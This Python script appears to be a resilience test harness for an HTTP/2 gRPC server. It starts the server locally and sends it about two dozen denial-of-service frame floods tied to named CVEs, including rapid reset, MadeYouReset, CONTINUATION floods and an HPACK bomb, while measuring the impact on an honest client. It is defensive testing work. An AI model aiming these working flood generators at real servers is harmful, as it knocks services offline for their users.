#!/usr/bin/env python3
"""Floods a server as attackers do, while an honest client calls on: floods.py SERVER [--frames N].

Each attack comes from an address of its own of 127.0.0.0/8, in plaintext and under TLS. Judged are
the honest client's errors and latencies, how soon the server answers afterwards, and what it spent.
Sources: CVE-2023-44487 (rapid reset), CVE-2025-8671 (MadeYouReset), CVE-2024-27316 (CONTINUATION),
CVE-2016-6581 (HPACK bomb), CVE-2019-9511 to 9518 (PING, SETTINGS, PRIORITY, empty frames, windows).
"""
import argparse
import contextlib
import json
import os
import pathlib
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time

import checks
import run
from checks import check
from http2_peer import (CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PREFACE,
                        FieldEncoder, data, frame, integer, ping, priority, reset, settings, text,
                        window_update)

FIND = [(":method", "POST"), (":scheme", "http"), (":path", "/atrium.testing.v1.Catalog/Find"),
        (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
WATCH = [(name, value.replace("Find", "Watch")) for name, value in FIND]
# A part whose number asks for as many answers as there can be.
ENDLESS = b"\0\0\0\0\x06" + b"\x08\xff\xff\xff\xff\x07"
LIMIT_CPU_S = 2.0
LIMIT_BYTES = 32 << 20
LIMIT_ANSWER_S = 1.0
LIMIT_RATIO = 3.0
# Below this a thread of the system that wakes late is all that is measured.
LEAST_P99_MS = 3.0


def streams(count, encoder=None, fields=FIND, flags=END_HEADERS):
    """HEADERS of so many streams, the first of them with the whole of its fields."""
    encoder = encoder or FieldEncoder()
    return [(2 * number + 1, frame(HEADERS, flags, 2 * number + 1, encoder.block(fields)))
            for number in range(count)]


def rapid_reset(n):
    return b"".join(head + reset(stream) for stream, head in streams(n // 2))


def made_you_reset_by_window(n):
    return b"".join(head + window_update(stream, 0) for stream, head in streams(n // 2))


def made_you_reset_by_overflow(n):
    return b"".join(head + window_update(stream, 2**31 - 1) for stream, head in streams(n // 2))


def made_you_reset_by_priority(n):
    return b"".join(head + priority(stream, stream) for stream, head in streams(n // 2))


def made_you_reset_by_data(n):
    return b"".join(head + data(stream, b"") + data(stream, b"x", 0)
                    for stream, head in streams(n // 3))


def made_you_reset_by_message(n):
    return b"".join(head + data(stream, b"\x07\0\0\0\0") for stream, head in streams(n // 2))


def continuations(n):
    return frame(HEADERS, 0, 1, b"\x82") + b"".join(
        frame(CONTINUATION, 0, 1, b"") for _ in range(n))


def large_continuations(n):
    block = b"\x00" + text("x-a") + text("v" * 1000)
    return frame(HEADERS, 0, 1, FieldEncoder().block(FIND)) + b"".join(
        frame(CONTINUATION, 0, 1, block * 16) for _ in range(n // 16))


def hpack_bomb(n):
    """One large field is put into the table; each byte after that stands for all of it."""
    encoder = FieldEncoder()
    first = encoder.block(FIND) + b"\x40" + text("x-bomb") + text("b" * 3800)
    out = [frame(HEADERS, END_HEADERS | 1, 1, first)]
    for number in range(1, max(2, n // 1000)):
        out.append(frame(HEADERS, END_HEADERS | 1, 2 * number + 1,
                         encoder.block(FIND[:3]) + integer(62, 7, 0x80) * 15_000))
    return b"".join(out)


def header_count_bomb(n):
    """Many fields without names or values to speak of, over HEADERS and CONTINUATION."""
    out = []
    for number in range(max(1, n // 2000)):
        stream = 2 * number + 1
        block = FieldEncoder().block([(a, b) for a, b in FIND]) if number == 0 else b""
        out.append(frame(HEADERS, 1, stream, block + b"\x00\x01a\x00" * 4000))
        out += [frame(CONTINUATION, 0, stream, b"\x00\x01a\x00" * 4000) for _ in range(6)]
        out.append(frame(CONTINUATION, END_HEADERS, stream, b"\x00\x01a\x00" * 4000))
    return b"".join(out)


def table_sizes(n):
    """Changes of the table's size, each of which may cost an eviction."""
    out = []
    for number in range(n // 10):
        sizes = (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) if number else b""
        out.append(frame(HEADERS, END_HEADERS | 1, 2 * number + 1,
                         sizes + FieldEncoder().block(FIND)))
    return b"".join(out)


def pings(n):
    return ping() * n


def setting_changes(n):
    return settings((INITIAL_WINDOW_SIZE, 65_535)) * n


def empty_settings(n):
    return settings() * n


def priorities(n):
    return b"".join(priority(2 * number + 1, 0) for number in range(n))


def window_updates(n):
    return window_update(0, 1) * n


def stream_window_updates(n):
    head = frame(HEADERS, END_HEADERS, 1, FieldEncoder().block(FIND))
    return head + window_update(1, 1) * n


def empty_data(n):
    head = frame(HEADERS, END_HEADERS, 1, FieldEncoder().block(FIND))
    return head + frame(DATA, 0, 1) * n


def padded_data(n):
    """Nothing but padding: bytes without content."""
    head = frame(HEADERS, END_HEADERS, 1, FieldEncoder().block(FIND))
    return head + frame(DATA, 8, 1, b"\xff" + bytes(255)) * (n // 4)


def unknown_frames(n):
    return frame(0xAB, 0xFF, 0, b"x" * 8) * n


def go_aways(n):
    return frame(7, 0, 0, struct.pack(">II", 0, 0)) * n


def trailers(n):
    """Requests that end with trailers at once, so that a call begins and fails."""
    encoder = FieldEncoder()
    return b"".join(
        head + frame(HEADERS, END_HEADERS | 1, stream, encoder.block([("x-end", "1")]))
        for stream, head in streams(n // 2, encoder))


def open_streams(n):
    return b"".join(head for _, head in streams(3_000))


def zero_windows(n):
    """Asks for endless answers and takes none of them."""
    encoder = FieldEncoder()
    opened = b"".join(head + frame(DATA, 1, stream, ENDLESS)
                      for stream, head in streams(100, encoder, WATCH))
    return settings((INITIAL_WINDOW_SIZE, 0)) + opened


def tiny_windows(n):
    """Takes endless answers a byte at a time."""
    encoder = FieldEncoder()
    opened = b"".join(head + frame(DATA, 1, stream, ENDLESS)
                      for stream, head in streams(100, encoder, WATCH))
    return settings((INITIAL_WINDOW_SIZE, 1)) + opened + b"".join(
        window_update(2 * (number % 100) + 1, 1) for number in range(n))


def slow_reader(n):
    """Asks for endless answers with the largest windows, and never reads its socket."""
    encoder = FieldEncoder()
    opened = b"".join(head + frame(DATA, 1, stream, ENDLESS)
                      for stream, head in streams(100, encoder, WATCH))
    return settings((INITIAL_WINDOW_SIZE, 2**31 - 1)) + window_update(0, 2**31 - 65_536) + opened


FLOODS = [rapid_reset, made_you_reset_by_window, made_you_reset_by_overflow,
          made_you_reset_by_priority, made_you_reset_by_data, made_you_reset_by_message,
          continuations, large_continuations, hpack_bomb, header_count_bomb, table_sizes, pings,
          setting_changes, empty_settings, priorities, window_updates, stream_window_updates,
          empty_data, padded_data, unknown_frames, go_aways, trailers, open_streams, zero_windows,
          tiny_windows, slow_reader]


class Server:
    """The process under attack."""

    def __init__(self, words):
        self.process = subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                        text=True)
        self.addresses = dict(self.process.stdout.readline().split() for _ in range(2))

    def cpu(self):
        fields = pathlib.Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def resident(self):
        fields = pathlib.Path(f"/proc/{self.process.pid}/statm").read_text().split()
        return int(fields[1]) * os.sysconf("SC_PAGESIZE")


class Honest:
    """The client that is not to notice anything."""

    def __init__(self, words):
        self.process = subprocess.Popen(
            [sys.executable, str(pathlib.Path(__file__).parent / "honest_client.py"), *words],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)

    def round(self):
        print("next", file=self.process.stdin, flush=True)
        return json.loads(self.process.stdout.readline())

    def end(self):
        self.process.kill()
        self.process.wait()


class Attacker:
    """One connection from an address of its own."""
    number = 0

    def __init__(self, address, context):
        Attacker.number += 1
        host, port = address.rsplit(":", 1)
        source = f"127.0.{1 + Attacker.number // 250}.{1 + Attacker.number % 250}"
        self.socket = socket.create_connection((host, int(port)), 10, (source, 0))
        if context:
            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
        self.is_open = True

    def send(self, what, seconds):
        """Sends as much as is taken within a time; whether the connection stands afterwards."""
        end = time.monotonic() + seconds
        view = memoryview(what)
        with contextlib.suppress(OSError):
            self.socket.settimeout(0.2)
            while view and time.monotonic() < end:
                with contextlib.suppress(TimeoutError, ssl.SSLWantWriteError):
                    view = view[self.socket.send(view[:65_536]):]
            return
        self.is_open = False

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.close()


class Trial:
    """All attacks on one face of a server."""

    def __init__(self, server, face, context, honest, options):
        self.server, self.face, self.context = server, face, context
        self.honest, self.options = honest, options
        self.worst = {"ratio": 0.0, "cpu": 0.0, "bytes": 0, "answer": 0.0}

    def rest(self):
        """The idle honest client's figures; what was before is let go of."""
        time.sleep(0.1)
        self.honest.round()
        time.sleep(self.options.seconds)
        return self.honest.round()

    def run(self, name, attack):
        idle = self.rest()
        cpu, resident = self.server.cpu(), self.server.resident()
        self.honest.round()
        began = time.monotonic()
        attackers = attack()
        time.sleep(max(0.0, began + self.options.seconds - time.monotonic()))
        seen = self.honest.round()
        used = self.server.cpu() - cpu
        grown = max(0, self.server.resident() - resident)
        answer = self.answers()
        for attacker in attackers:
            attacker.close()
        self.judge(name, idle, seen, used, grown / max(1, len(attackers)), answer)

    def answers(self):
        """How long a new connection waits for a first answer."""
        began = time.monotonic()
        client = Attacker(self.server.addresses[self.face], self.context)
        with contextlib.suppress(OSError):
            client.socket.settimeout(10)
            client.socket.sendall(PREFACE + settings() + ping())
            got = b""
            while b"\0\0\x08\x06\x01" not in got and (part := client.socket.recv(4096)):
                got += part
        client.close()
        return time.monotonic() - began

    def judge(self, name, idle, seen, used, grown, answer):
        label = f"{self.face}: {name}"
        # A client that is always there costs the server something as well.
        own = idle["calls"] and self.options.idle_cpu
        ratio = seen["p99"] / max(idle["p99"], LEAST_P99_MS)
        check(f"{label}: the honest client has no error", not seen["errors"] and seen["calls"] > 0,
              seen)
        if self.options.check:
            check(f"{label}: the honest client's p99", ratio <= LIMIT_RATIO,
                  f"{seen['p99']:.1f} ms, idle {idle['p99']:.1f} ms")
        check(f"{label}: processor time", used - own < LIMIT_CPU_S, f"{used:.2f} s")
        check(f"{label}: memory of a connection", grown < LIMIT_BYTES, f"{grown / 2**20:.1f} MiB")
        check(f"{label}: answers afterwards", answer < LIMIT_ANSWER_S, f"{answer:.2f} s")
        for key, value in (("ratio", ratio), ("cpu", used), ("bytes", grown), ("answer", answer)):
            self.worst[key] = max(self.worst[key], value)
        if self.options.verbose:
            print(f"{label}: p99 {idle['p99']:.2f} -> {seen['p99']:.2f} ms, cpu {used:.2f} s, "
                  f"{grown / 2**20:.1f} MiB, answer {answer * 1000:.0f} ms", flush=True)

    def flood(self, make):
        """The same on a few connections one after the other, as somebody who comes back."""
        frames = PREFACE + settings() + make(self.options.frames)
        def attack():
            attackers = []
            for _ in range(self.options.connections):
                with contextlib.suppress(OSError):
                    attacker = Attacker(self.server.addresses[self.face], self.context)
                    attackers.append(attacker)
                    attacker.send(frames, self.options.seconds)
            return attackers
        self.run(make.__name__.replace("_", " "), attack)

    def half_prefaces(self):
        def attack():
            attackers = []
            for _ in range(200):
                with contextlib.suppress(OSError):
                    attacker = Attacker(self.server.addresses[self.face], self.context)
                    attackers.append(attacker)
                    attacker.send(PREFACE[:12], 0.5)
            return attackers
        self.run("half prefaces", attack)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("server")
    parser.add_argument("--frames", type=int, default=50_000)
    parser.add_argument("--connections", type=int, default=2)
    parser.add_argument("--seconds", type=float, default=2.0, help="of each measurement")
    parser.add_argument("--idle-cpu", type=float, default=0.2, help="of the honest client's calls")
    parser.add_argument("--only", default="", help="attacks with this in their name")
    parser.add_argument("--check", action="store_true", help="judges latencies as well")
    parser.add_argument("--verbose", action="store_true")
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as place:
        folder = pathlib.Path(place)
        run.make_stubs(folder)
        run.make_certificates(folder)
        files = [str(folder / name) for name in ("ca.pem", "client.pem", "client.key")]
        context = ssl.create_default_context(cafile=files[0])
        context.set_alpn_protocols(["h2"])
        context.load_cert_chain(*files[1:])
        server = Server([options.server, *(str(folder / name)
                                           for name in ("server.pem", "server.key", "ca.pem"))])
        try:
            for face, tls, words in (("plaintext", None, []), ("tls", context, files)):
                honest = Honest([str(folder), server.addresses[face], *words])
                trial = Trial(server, face, tls, honest, options)
                for make in FLOODS:
                    if options.only in make.__name__:
                        trial.flood(make)
                if options.only in "half_prefaces":
                    trial.half_prefaces()
                honest.end()
                print(f"@figure floods, {face}: honest p99 at most {trial.worst['ratio']:.1f} times "
                      f"its idle one, {trial.worst['cpu']:.2f} s of processor time, "
                      f"{trial.worst['bytes'] / 2**20:.1f} MiB, answer after "
                      f"{trial.worst['answer'] * 1000:.0f} ms", flush=True)
        finally:
            server.process.kill()
            server.process.wait()
    print(f"@count {checks.passed} {checks.failed}")
    sys.exit(1 if checks.failed else 0)


if __name__ == "__main__":
    main()
